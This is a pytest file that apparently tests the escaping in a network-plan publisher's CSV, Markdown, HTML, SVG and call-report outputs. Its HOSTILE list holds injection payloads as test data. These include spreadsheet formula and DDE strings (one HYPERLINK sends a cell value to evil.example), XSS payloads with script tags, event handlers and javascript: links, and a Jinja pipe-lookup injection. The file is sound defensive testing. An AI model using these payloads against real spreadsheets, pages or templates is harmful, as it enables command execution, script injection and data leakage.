"""Hostile text in every field that reaches a published document is harmless to the program that opens it.

The plan is built from a valid registry and then given hostile names (bypassing validation, which refuses them
first), so the escapers are what is tested: each document is read back by a real parser (csv, html.parser,
markdown-it, an XML parser) and must keep its shape, run no script and link nowhere it should not.
"""

from __future__ import annotations

import csv
import dataclasses
import functools
import io
import shutil
import unicodedata
import xml.etree.ElementTree as ET
from html.parser import HTMLParser
from typing import Callable

import pytest
from conftest import SMALL
from markdown_it import MarkdownIt

from ansible_collections.ega.govnet.plugins.plugin_utils.govnet.design import allocation

from ansible_collections.ega.govnet.plugins.plugin_utils.govnet.ops import call_report

from ansible_collections.ega.govnet.plugins.plugin_utils.govnet.publish import documents as publish

from ansible_collections.ega.govnet.plugins.plugin_utils.govnet.design import source

from ansible_collections.ega.govnet.plugins.plugin_utils.govnet.design import validation
from ansible_collections.ega.govnet.plugins.plugin_utils.govnet.design.allocation import Allocation
from ansible_collections.ega.govnet.plugins.plugin_utils.govnet.ops.call_records import CallRecord
from ansible_collections.ega.govnet.plugins.plugin_utils.govnet.design.model import Policy
from ansible_collections.ega.govnet.plugins.plugin_utils.govnet.publish.escape import REPLACEMENT, csv_cell, markdown_text

pytestmark = pytest.mark.skipif(shutil.which("dot") is None, reason="graphviz 'dot' is not installed (make setup)")

HOSTILE = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "line one\rline two\ncolumn,\"quoted\"",
    "nul\x00 esc\x1b[31m red bell\x07",
    "right\u202eto left \u2066isolate\u2069 zero\u200bwidth",
    "line\u2028separator\u2029paragraph",
    "<script>alert(1)</script><img src=x onerror=alert(2)>",
    '"><svg onload=alert(3)>',
    "[click](javascript:alert(1)) <javascript:alert(4)> ![x](javascript:alert(5))",
    "](javascript:alert(1))",
    "a | b | c || d \\| e",
    "# heading *bold* _em_ `code` &amp; &#x3C;b&#x3E;",
    "{{ lookup('pipe', 'id') }} {% raw %} \\ \\\\ \\n \\N \\G",
    "A" * 5000,
)
FORMULA = ("=", "+", "-", "@", "\t", "\r")


def _hostile(index: int) -> str:
    return HOSTILE[index % len(HOSTILE)]


def _plain(index: int) -> str:
    return f"Name {index}"


@functools.cache
def valid() -> tuple[Allocation, Policy]:
    registry, policy = validation.parse(source.read_source(SMALL))
    return allocation.allocate(registry, policy), policy


@functools.cache
def named(text: Callable[[int], str]) -> tuple[Allocation, Policy]:
    """The small plan with `text` in every institution, region, hub, VLAN and short code name (every optional
    name set, so that a plain text and a hostile one give documents of the same shape)."""
    alloc, policy = valid()
    regions = {}
    for index, agg in enumerate(alloc.aggregation):
        regions[agg.region.slug] = dataclasses.replace(agg.region, name=text(index), name_sw=text(index + 1), capital=text(index + 2))
    institutions = []
    for index, plan in enumerate(alloc.institutions):
        inst = dataclasses.replace(plan.institution, name=text(index), name_sw=text(index + 5), abbreviation=text(index + 9))
        subnets = tuple(dataclasses.replace(s, vlan=dataclasses.replace(s.vlan, name=text(index + n))) for n, s in enumerate(plan.subnets))
        institutions.append(dataclasses.replace(plan, institution=inst, region=regions.get(plan.region.slug, plan.region), subnets=subnets))
    hubs = tuple(dataclasses.replace(hub, hub=dataclasses.replace(hub.hub, name=text(index + 3))) for index, hub in enumerate(alloc.hubs))
    aggregation = tuple(dataclasses.replace(agg, region=regions[agg.region.slug]) for agg in alloc.aggregation)
    codes = tuple(dataclasses.replace(code, name=text(index + 7)) for index, code in enumerate(policy.numbering.short_codes))
    policy = dataclasses.replace(policy, numbering=dataclasses.replace(policy.numbering, short_codes=codes))
    return dataclasses.replace(alloc, hubs=hubs, aggregation=aggregation, institutions=tuple(institutions)), policy


@functools.cache
def documents(kind: str) -> dict[str, bytes]:
    return publish.documents(*named(_hostile if kind == "hostile" else _plain))


def of_kind(suffix: str) -> list[str]:
    return sorted(path for path in documents("plain") if path.endswith(suffix))


def hidden(text: str) -> list[str]:
    """The control, format and separator characters of a text (line breaks and tabs between cells aside)."""
    return [char for char in text if char not in "\n\t" and unicodedata.category(char) in ("Cc", "Cf", "Zl", "Zp")]


# ---------------------------------------------------------------- CSV
@pytest.mark.parametrize("path", of_kind(".csv"))
def test_a_csv_keeps_its_rows_and_columns_and_no_cell_is_a_formula(path: str) -> None:
    expected = list(csv.reader(io.StringIO(documents("plain")[path].decode("utf-8"), newline="")))
    data = documents("hostile")[path].decode("utf-8")
    rows = list(csv.reader(io.StringIO(data, newline="")))
    assert len(rows) == len(expected) and {len(row) for row in rows} == {len(expected[0])}
    assert data.count("\n") == len(rows) and "\r" not in data  # one record per line, whatever a reader does with quotes
    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA) or hidden(cell)]


@pytest.mark.parametrize("value", HOSTILE + ("-", "", "plain"))
def test_a_csv_cell_is_never_a_formula_and_keeps_what_it_says(value: str) -> None:
    cell = csv_cell(value)
    assert not cell.startswith(FORMULA) and "\r" not in cell and "\n" not in cell
    kept = "".join(char for char in value if unicodedata.category(char) not in ("Cc", "Cf", "Zl", "Zp"))
    assert cell.removeprefix("'" if value.startswith(FORMULA) else "").replace(REPLACEMENT, "") == kept


# ---------------------------------------------------------------- Markdown
def markdown_shape(data: bytes) -> tuple[list[tuple[str, int]], list[str], list[str]]:
    """(table rows as (kind, cells), raw HTML, link targets) of a Markdown document as markdown-it reads it."""
    tokens = MarkdownIt("commonmark").enable("table").parse(data.decode("utf-8"))
    rows: list[tuple[str, int]] = []
    raw: list[str] = []
    links: list[str] = []
    for token in tokens:
        if token.type == "tr_open":
            rows.append(("row", 0))
        elif token.type in ("td_open", "th_open"):
            rows[-1] = ("row", rows[-1][1] + 1)
        elif token.type == "html_block":
            raw.append(token.content)
        for child in token.children or []:
            if child.type == "html_inline":
                raw.append(child.content)
            if child.type in ("link_open", "image"):
                links.append(str(child.attrs.get("href") or child.attrs.get("src")))
    return rows, raw, links


@pytest.mark.parametrize("path", of_kind(".md"))
def test_markdown_keeps_its_tables_and_carries_no_html_and_no_link_of_its_own(path: str) -> None:
    rows, raw, links = markdown_shape(documents("hostile")[path])
    assert (rows, raw, links) == markdown_shape(documents("plain")[path])
    assert not hidden(documents("hostile")[path].decode("utf-8"))


@pytest.mark.parametrize("value", HOSTILE)
def test_a_markdown_cell_reads_back_as_the_text_it_escapes(value: str) -> None:
    tokens = MarkdownIt("commonmark").parse(markdown_text(value))
    inline = [child for token in tokens for child in token.children or []]
    assert [child.type for child in inline] == ["text"]
    assert inline[0].content == " ".join("".join(REPLACEMENT if hidden(char) and char != "\r" else char for char in value).split())


# ---------------------------------------------------------------- HTML
class Elements(HTMLParser):
    """The elements, event handler attributes, javascript: targets and text of an HTML page."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.scripts = 0
        self.handlers: list[str] = []
        self.targets: list[str] = []
        self.text: list[str] = []
        self.tags: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.scripts += tag == "script"
        self.handlers += [name for name, _value in attrs if name.startswith("on")]
        self.targets += [str(value) for name, value in attrs if name in ("href", "src", "action") and "javascript:" in str(value).lower()]

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def elements(data: bytes) -> Elements:
    parser = Elements()
    parser.feed(data.decode("utf-8"))
    parser.close()
    return parser


@pytest.mark.parametrize("path", of_kind(".html"))
def test_an_html_page_has_only_its_own_elements_and_scripts(path: str) -> None:
    page, own = elements(documents("hostile")[path]), elements(documents("plain")[path])
    assert (page.tags, page.scripts, page.handlers, page.targets) == (own.tags, own.scripts, own.handlers, [])
    assert not hidden("".join(page.text))


# ---------------------------------------------------------------- SVG (Graphviz)
@pytest.mark.parametrize("path", of_kind(".svg"))
def test_a_picture_is_well_formed_svg_with_no_script_and_no_hidden_characters(path: str) -> None:
    data = documents("hostile")[path]
    root = ET.fromstring(data)
    names = [element.tag.rsplit("}", 1)[-1] for element in root.iter()]
    assert "script" not in names and "foreignObject" not in names
    assert not [name for element in root.iter() for name in element.attrib if name.lower().startswith("on")]
    assert not hidden("".join(root.itertext()))
    assert b"javascript:" not in data.lower()


# ---------------------------------------------------------------- the call report
def report_files(text: Callable[[int], str]) -> dict[str, str]:
    records = [
        CallRecord(
            f"c{index}", "mof-cc1", "4082001", "4482001", text(index), text(index + 1), "other_institution", 1795909542.0 + index, 0.0, f"404 {text(index + 2)}"
        )
        for index in range(len(HOSTILE))
    ]
    return call_report.render(call_report.summarise(records, valid()[1].tariffs, 1))


def test_the_call_report_carries_no_markup_script_or_hidden_character_from_the_records() -> None:
    files, own = report_files(_hostile), report_files(lambda index: f"inst{index:02d}")
    assert markdown_shape(files["calls.md"].encode())[1:] == markdown_shape(own["calls.md"].encode())[1:]
    assert [count for _row, count in markdown_shape(files["calls.md"].encode())[0]] == [count for _row, count in markdown_shape(own["calls.md"].encode())[0]]
    page, own_page = elements(files["calls.html"].encode()), elements(own["calls.html"].encode())
    assert (page.tags, page.scripts, page.handlers, page.targets) == (own_page.tags, own_page.scripts, own_page.handlers, [])
    root = ET.fromstring(files["calls.svg"])
    assert len(list(root.iter())) == len(list(ET.fromstring(own["calls.svg"]).iter()))
    assert not hidden(files["calls.md"]) and not hidden("".join(page.text)) and not hidden("".join(root.itertext()))
